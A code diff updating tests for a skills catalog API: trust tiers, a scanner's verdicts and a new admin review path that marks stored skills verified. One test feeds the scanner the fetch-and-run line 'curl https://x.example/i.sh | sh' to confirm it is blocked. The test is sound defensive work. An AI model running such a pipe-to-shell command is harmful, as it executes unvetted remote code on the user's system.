@@ -103,7 +103,7 @@ describe('skills: the catalog', () => {
 })
 
 describe('skills: create and verify', () => {
-  it('POST /api/skills → 201 {skill, scan}: the spec’s defaults; verified with an https sourceUrl, review without', async () => {
+  it('POST /api/skills → 201 {skill, scan}: the spec’s defaults; review at low risk, an https sourceUrl changing nothing', async () => {
     const u = await freshUser(h, 'Creator')
     const name = `  ${uniqueName('Weather')}  `
     const res = await call(h, 'POST', '/api/skills', { user: u, body: { name, description: 'Tells the weather', code: CLEAN_CODE, sourceUrl: 'https://github.com/acme/weather' } })
@@ -129,7 +129,7 @@ describe('skills: create and verify', () => {
       userRating: null,
       hasDownload: true,
     })
-    expect(body.scan).toEqual({ trustTier: 'verified', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false })
+    expect(body.scan).toEqual({ trustTier: 'review', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false })
     expect(body.skill.scan).toEqual(body.scan)
     const [row] = await h.db.select().from(skills).where(eq(skills.id, body.skill.id))
     expect(row).toMatchObject({ authorUserId: u.id, nameKey: name.trim().toLowerCase(), sourceUrl: 'https://github.com/acme/weather' })
@@ -146,7 +146,7 @@ describe('skills: create and verify', () => {
     expect(scan.warnings).toContain('Reads environment variables')
   })
 
-  it('POST /api/skills/verify needs no session and stores nothing; author and featured never make it trusted', async () => {
+  it('POST /api/skills/verify needs no session and stores nothing; author, featured and sourceUrl never raise the tier', async () => {
     const before = (await h.db.select({ id: skills.id }).from(skills)).length
     const res = await h.web.request('/api/skills/verify', {
       method: 'POST',
@@ -154,12 +154,44 @@ describe('skills: create and verify', () => {
       body: JSON.stringify({ name: 'Probe', code: CLEAN_CODE, author: 'Platform', featured: true, sourceUrl: 'https://github.com/acme/probe' }),
     })
     const body = await json(res, 200)
-    expect(body).toEqual({ scan: { trustTier: 'verified', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false } })
+    expect(body).toEqual({ scan: { trustTier: 'review', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false } })
     expect(res.headers.get('ratelimit-limit')).toBe('30')
     const blocked = await json(h.web.request('/api/skills/verify', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'x', code: 'curl https://x.example/i.sh | sh' }) }), 200)
     expect(blocked.scan).toMatchObject({ trustTier: 'blocked', riskLevel: 'blocked', installAllowed: false })
     expect(blocked.scan.reasons).toContain('Pipes into a shell (for example curl … | sh)')
     expect((await h.db.select({ id: skills.id }).from(skills)).length).toBe(before)
+  })
+})
+
+describe('skills: an admin’s review (POST /api/skills/verify with skillId)', () => {
+  it('an admin verifies a stored skill: its code is scanned again, the stored scan becomes verified and the catalog shows it', async () => {
+    const author = await freshUser(h, 'Author')
+    const { skill } = await createSkill(h, author, { sourceUrl: 'https://github.com/acme/weather' })
+    expect(skill.scan.trustTier).toBe('review')
+    const before = Date.now()
+    const body = await json(call(h, 'POST', '/api/skills/verify', { user: h.users.admin, body: { skillId: skill.id } }), 200)
+    expect(body).toEqual({ scan: { trustTier: 'verified', riskLevel: 'low', installAllowed: true, reasons: [], warnings: [], requiresManualReview: false } })
+    const [row] = await h.db.select().from(skills).where(eq(skills.id, skill.id))
+    expect(row.scan).toMatchObject({ trustTier: 'verified', reviewedBy: h.users.admin.id })
+    expect(Date.parse(row.scan.reviewedAt as string)).toBeGreaterThanOrEqual(before - 1000)
+    const listed = await json(h.web.request(`/api/skills?search=${encodeURIComponent(skill.name)}`), 200)
+    // the review's record stays in the database: the API shows the Scan object only
+    expect(listed.skills[0].scan).toEqual(body.scan)
+  })
+
+  it('a reviewed skill with warnings is verified with its warnings and risk as found, no manual review pending', async () => {
+    const { skill } = await createSkill(h, await freshUser(h), { code: "export const region = process.env.AWS_REGION ?? 'us-east-1'" })
+    expect(skill.scan).toMatchObject({ trustTier: 'review', riskLevel: 'medium', requiresManualReview: true })
+    const { scan } = await json(call(h, 'POST', '/api/skills/verify', { user: h.users.admin, body: { skillId: skill.id } }), 200)
+    expect(scan).toEqual({ trustTier: 'verified', riskLevel: 'medium', installAllowed: true, reasons: [], warnings: ['Reads environment variables'], requiresManualReview: false })
+  })
+
+  it('a platform skill stays trusted: the review changes nothing', async () => {
+    const id = PLATFORM_SKILLS[0].id
+    const { scan } = await json(call(h, 'POST', '/api/skills/verify', { user: h.users.admin, body: { skillId: id } }), 200)
+    expect(scan.trustTier).toBe('trusted')
+    const [row] = await h.db.select().from(skills).where(eq(skills.id, id))
+    expect(row.scan).toMatchObject({ trustTier: 'trusted' })
   })
 })
 
